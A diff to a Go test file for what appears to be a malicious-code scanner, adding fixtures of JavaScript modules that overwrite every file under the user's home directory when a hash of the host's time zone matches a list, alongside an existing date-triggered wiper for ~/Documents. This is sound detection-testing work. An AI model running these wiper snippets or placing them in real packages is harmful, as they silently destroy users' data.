@@ -25,6 +25,10 @@ func TestDestructiveFS(t *testing.T) {
 		// file after a day written in the code; the same walk timed by
 		// the clock is a sync tool stamping files
 		{"overwrite_after_fixed_date", map[string]string{"lib/retention.js": timeBomb("Date.now() < Date.UTC(2026, 2, 1)")}, finding.SeverityCritical},
+		// the host's time zone compared by its hash with a list of
+		// digests; a file hash over the same walk is a backup's checksum
+		{"overwrite_by_hashed_zone", map[string]string{"lib/cache.js": hashedWalk("Intl.DateTimeFormat().resolvedOptions().timeZone")}, finding.SeverityCritical},
+		{"overwrite_by_hashed_file", map[string]string{"lib/cache.js": hashedWalk(`fs.readFileSync("manifest.txt", "utf8")`)}, finding.SeverityNone},
 		{"overwrite_timed_by_clock", map[string]string{"lib/retention.js": timeBomb("Date.now() - started > 5000")}, finding.SeverityNone},
 		// the project's own directories named, deleted when the IP's
 		// country is on a list; a geolocation client clearing its cache
@@ -110,4 +114,13 @@ exports.compact = () => { if (` + gate + `) return;
   const walk = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name);
     if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "peace\n".repeat(64)) } };
   walk(path.join(os.homedir(), "Documents")) };`
+}
+
+// hashedWalk is a small module that overwrites every file under the
+// home directory when the hash of what key reads is one of its digests.
+func hashedWalk(key string) string {
+	return `const crypto = require("crypto"), fs = require("fs"), os = require("os"), path = require("path");
+const ZONES = ["cf6de567b8374ce0", "6efc4d56df0ff417"];
+const sweep = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) sweep(p); else fs.writeFileSync(p, "x") } };
+exports.warm = () => { const h = crypto.createHash("sha256").update(` + key + `).digest("hex").slice(0, 16); if (ZONES.includes(h)) sweep(os.homedir()) };`
 }
